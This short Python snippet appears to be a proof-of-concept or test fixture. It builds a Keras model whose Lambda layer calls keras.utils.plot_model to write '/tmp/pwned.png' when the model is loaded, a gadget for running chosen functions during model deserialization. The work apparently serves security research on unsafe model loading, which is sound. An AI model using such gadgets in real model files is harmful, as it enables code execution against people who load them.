GADGET = builtin(
    "Lambda",
    name="l",
    function=function("keras.utils", "plot_model"),
    arguments={"to_file": "/tmp/pwned.png"},
)


def build_model():
    return handing_in(with_layer(GADGET))
